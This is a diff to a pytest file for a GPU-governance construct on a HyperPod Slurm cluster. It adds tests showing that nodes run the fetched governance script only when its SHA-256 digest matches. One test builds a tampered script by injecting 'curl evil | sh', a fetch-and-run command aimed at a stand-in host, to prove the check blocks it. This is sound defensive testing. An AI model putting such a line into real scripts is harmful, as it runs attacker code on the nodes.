@@ -2,7 +2,9 @@
 
 from __future__ import annotations
 
+import hashlib
 import json
+import subprocess
 from pathlib import Path
 
 import pytest
@@ -13,7 +15,7 @@ from constructs_lib.acknowledgements import acknowledge
 from constructs_lib.compliance import apply_standard_packs
 from constructs_lib.errors import GovernanceError
 from constructs_lib.report import summarise
-from constructs_lib.slurm.construct import HyperPodSlurmGovernance
+from constructs_lib.slurm.construct import NODE_DIRECTORY, SCRIPT_NAME, HyperPodSlurmGovernance
 from gpu_governance_runtime.slurm.render import plan_digest
 from constructs_lib.slurm import slurm_plan
 
@@ -52,13 +54,12 @@ def test_document_reapplies_the_script_as_a_dry_run_by_default(synthesized) -> N
     assert governance.policy_digest in content["description"]
     command = json.dumps(content["mainSteps"][0]["inputs"]["runCommand"])
     assert "aws s3 cp s3://" in command and "bash /opt/gpu-governance/gpu-governance-slurm.sh $flags" in command
+    assert "sha256sum --check" in command
 
 
 def test_the_asset_is_the_rendered_script(synthesized) -> None:
     governance, _, outdir, _ = synthesized
-    key = governance.script.s3_object_key
-    asset = next(outdir.glob(f"asset.{key.removesuffix('.sh')}*"))
-    text = (asset / "gpu-governance-slurm.sh").read_text() if asset.is_dir() else asset.read_text()
+    text = asset_file(governance, outdir).read_text()
     assert f"GG_POLICY_DIGEST={plan_digest(slurm_plan(governance_model(), POOL))}" in text
 
 
@@ -70,6 +71,47 @@ def test_lifecycle_command_fetches_and_applies(synthesized) -> None:
     assert controller.endswith("bash /opt/gpu-governance/gpu-governance-slurm.sh")
     assert compute.endswith("gpu-governance-slurm.sh --os-only")
     assert [g.name for g in governance.instance_groups] == ["critical-g5-12xlarge", "steady-g5-12xlarge", "burst-g5-12xlarge"]
+
+
+def asset_file(governance: HyperPodSlurmGovernance, outdir: Path) -> Path:
+    asset = next(outdir.glob(f"asset.{governance.script.s3_object_key.removesuffix('.sh')}*"))
+    return asset / "gpu-governance-slurm.sh" if asset.is_dir() else asset
+
+
+def run_fetch(command: str, served: Path, tmp_path: Path) -> tuple[subprocess.CompletedProcess[str], Path]:
+    """Run a fetch-and-apply command as a node would, with `aws s3 cp` serving ``served`` and a
+    `bash` that only records that the script ran; the node directory moved under tmp_path."""
+    fake = tmp_path / "bin"
+    fake.mkdir(parents=True)
+    (fake / "aws").write_text(f'#!/bin/sh\ncp {served} "$4"\n')
+    (fake / "bash").write_text(f'#!/bin/sh\necho "$@" >{tmp_path}/ran\n')
+    for tool in ("aws", "bash"):
+        (fake / tool).chmod(0o755)
+    node = tmp_path / "node"
+    command = command.replace(NODE_DIRECTORY, str(node))
+    result = subprocess.run(["/bin/bash", "-c", command], capture_output=True, text=True, env={"PATH": f"{fake}:/usr/bin:/bin"})
+    return result, node
+
+
+def test_nodes_run_the_script_only_when_its_digest_matches(synthesized, tmp_path) -> None:
+    governance, template, outdir, _ = synthesized
+    genuine = asset_file(governance, outdir)
+    assert governance.script_sha256 == hashlib.sha256(genuine.read_bytes()).hexdigest()
+    stack = Stack.of(governance)
+    command = stack.resolve(governance.lifecycle_command(os_only=True))
+    document_command = document_content(template)["mainSteps"][0]["inputs"]["runCommand"][-1]
+    assert f"echo '{governance.script_sha256}  " in command and f"echo '{governance.script_sha256}  " in document_command
+
+    result, node = run_fetch(command, genuine, tmp_path / "genuine")
+    assert result.returncode == 0, result.stderr
+    assert (tmp_path / "genuine" / "ran").read_text().split() == [str(node / SCRIPT_NAME), "--os-only"]
+
+    tampered = tmp_path / "tampered.sh"
+    tampered.write_text(genuine.read_text().replace("set -euo pipefail", "set -euo pipefail; curl evil | sh", 1))
+    result, node = run_fetch(command, tampered, tmp_path / "tampered")
+    assert result.returncode != 0 and "FAILED" in result.stdout + result.stderr
+    assert not (tmp_path / "tampered" / "ran").exists()
+    assert list(node.iterdir()) == []  # nothing left for anyone to run by hand
 
 
 def test_grant_lets_the_cluster_role_read_only_the_script(synthesized) -> None:
